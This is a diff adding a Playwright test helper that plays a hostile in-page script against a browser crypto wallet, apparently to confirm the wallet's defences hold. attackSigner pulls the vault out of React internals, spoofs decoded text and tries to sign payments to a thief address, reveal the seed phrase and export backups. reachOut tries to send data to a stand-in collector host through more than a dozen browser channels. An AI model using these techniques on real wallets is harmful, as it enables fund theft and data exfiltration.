@@ -1,0 +1,159 @@
+import { parseAddress, type Address } from "../../sdk/src/move/address.ts";
+import { bytesToHex } from "../../sdk/src/bytes/hex.ts";
+import { buildTransaction, transferSupra } from "../../sdk/src/transaction/build.ts";
+import { encodeRawTransaction } from "../../sdk/src/transaction/raw-transaction.ts";
+import type { Page } from "@playwright/test";
+import type { Vault } from "../../wallet/src/vault/vault-api.ts";
+
+export const THIEF = parseAddress(`0x${"bad".repeat(21)}0`);
+/** Nobody listens there; what arrives at it is counted by the test. */
+export const COLLECTOR = "https://collector.example";
+
+const SUPRA = 10n ** 8n;
+
+/** Payments to a stranger, each below what a first payment may be, all together far above the session's limit. */
+export function thefts(sender: Address): readonly string[] {
+  return Array.from({ length: 30 }, (_, at) => {
+    const raw = buildTransaction(transferSupra(THIEF, 900n * SUPRA), {
+      sender,
+      sequenceNumber: BigInt(at),
+      chainId: 4,
+      maxGasAmount: 10n,
+      gasUnitPrice: 100n,
+      expirationTimestampSecs: 4_000_000_000n,
+    });
+    return bytesToHex(encodeRawTransaction(raw));
+  });
+}
+
+/** What a script in the page got out of the signer. */
+export interface Spoils {
+  /** Codes of the refusals, or what was handed out. */
+  readonly asked: Readonly<Record<string, string>>;
+  /** Payments of 900 SUPRA that were signed before the signer stopped. */
+  readonly signed: number;
+  readonly stoppedBy: string;
+  /** What the signer said of bytes while the page lied about them. */
+  readonly reported: { readonly to: string; readonly amount: bigint };
+}
+
+/** Runs as a script in the page: takes the vault out of React's own memory and asks it for everything. */
+export function attackSigner(page: Page, payments: readonly string[]): Promise<Spoils> {
+  return page.evaluate(async (hexes) => {
+    interface Fiber {
+      readonly child: Fiber | null;
+      readonly sibling: Fiber | null;
+      readonly memoizedProps: { readonly vault?: Vault } | null;
+    }
+    const findVault = (fiber: Fiber | null): Vault | undefined => {
+      if (fiber === null) return undefined;
+      return fiber.memoizedProps?.vault ?? findVault(fiber.child) ?? findVault(fiber.sibling);
+    };
+    const root = document.getElementById("root") ?? document.body;
+    const entry = Object.entries(root).find(([name]) => name.startsWith("__reactContainer$"));
+    const vault = findVault(entry?.[1] as Fiber);
+    if (vault === undefined) throw new TypeError("The script did not find the vault.");
+    // The page's own language is the script's to change; the worker has another one.
+    TextDecoder.prototype.decode = () => "a small gift";
+
+    const [account] = await vault.accounts();
+    const accountId = account?.id ?? "";
+    const phraseId = account?.origin.kind === "phrase" ? account.origin.phraseId : "";
+    const outcome = async (run: () => Promise<unknown>): Promise<string> => {
+      try {
+        return `got ${JSON.stringify(await run())}`;
+      } catch (error) {
+        return String((error as { readonly code?: unknown }).code);
+      }
+    };
+    const bytesOf = (hex: string): Uint8Array =>
+      Uint8Array.from(hex.slice(2).match(/../g) ?? [], (digits) => Number.parseInt(digits, 16));
+    const requestOf = (hex: string) => ({ accountId, rawBytes: bytesOf(hex), chainId: 4, feeCap: 10_000n });
+    let signed = 0;
+    let stoppedBy = "nothing";
+    for (const hex of hexes) {
+      try {
+        const { digest } = await vault.review(requestOf(hex));
+        await vault.sign({ ...requestOf(hex), digest });
+        signed++;
+      } catch (error) {
+        stoppedBy = String((error as { readonly code?: unknown }).code);
+        break;
+      }
+    }
+    const lie = { action: { kind: "transfer", to: "0x1", amount: 1n }, passwordReasons: [], roles: [] };
+    const [first = "", second = ""] = hexes;
+    const { action } = await vault.review({ ...requestOf(first), ...lie });
+    const { digest } = await vault.review(requestOf(first));
+    const asked = {
+      phrase: await outcome(() => vault.revealPhrase(phraseId, "")),
+      backup: await outcome(() => vault.exportBackup("")),
+      limits: await outcome(() => vault.setLimits({ newRecipient: 1n, session: 1n }, "")),
+      "a new key": await outcome(() =>
+        vault.beginRotation(accountId, { phraseId, password: "", sequenceNumber: 0n }),
+      ),
+      "other bytes than were reviewed": await outcome(() => vault.sign({ ...requestOf(second), digest })),
+    };
+    const payment = action.kind === "transfer" ? action : { to: "", amount: 0n };
+    return { asked, signed, stoppedBy, reported: { to: payment.to, amount: payment.amount } };
+  }, payments);
+}
+
+/** Runs as a script in the page: tries every way to another origin that does not leave the page. Says which were blocked. */
+export function reachOut(page: Page, collector: string): Promise<readonly string[]> {
+  return page.evaluate(async (origin) => {
+    const blocked: string[] = [];
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+      blocked.push(effectiveDirective),
+    );
+    const element = (name: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
+      const made = document.createElement(name);
+      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
+      document.body.append(made);
+      return made;
+    };
+    const attempts: Readonly<Record<string, () => unknown>> = {
+      fetch: () => fetch(`${origin}/fetch`, { mode: "no-cors" }),
+      beacon: () => navigator.sendBeacon(`${origin}/beacon`, "secret"),
+      events: () => new EventSource(`${origin}/events`),
+      image: () => element("img", { src: `${origin}/image` }),
+      frame: () => element("iframe", { src: `${origin}/frame` }),
+      style: () => element("link", { rel: "stylesheet", href: `${origin}/style.css` }),
+      script: () => element("script", { src: `${origin}/script.js` }),
+      prefetch: () => element("link", { rel: "prefetch", href: `${origin}/prefetch` }),
+      form: () => {
+        const form = element("form", { action: `${origin}/form`, method: "post", target: "nowhere" });
+        element("iframe", { name: "nowhere" });
+        if (form instanceof HTMLFormElement) form.submit();
+      },
+      worker: () => new Worker("data:text/javascript,0"),
+      markup: () => {
+        document.body.innerHTML = `<img src=${origin}/markup>`;
+      },
+      code: () => {
+        // eslint-disable-next-line no-eval -- the test is that it is refused
+        eval("1");
+      },
+    };
+    const stopped: string[] = [];
+    for (const [name, attempt] of Object.entries(attempts)) {
+      const before = blocked.length;
+      try {
+        await attempt();
+      } catch {
+        stopped.push(name);
+        continue;
+      }
+      // The browser says what it blocked in a task of its own.
+      const isSaid = await new Promise<boolean>((resolve) => {
+        const look = (rest: number): void => {
+          if (blocked.length > before || rest === 0) resolve(blocked.length > before);
+          else setTimeout(look, 20, rest - 1);
+        };
+        look(100);
+      });
+      if (isSaid) stopped.push(name);
+    }
+    return stopped;
+  }, collector);
+}
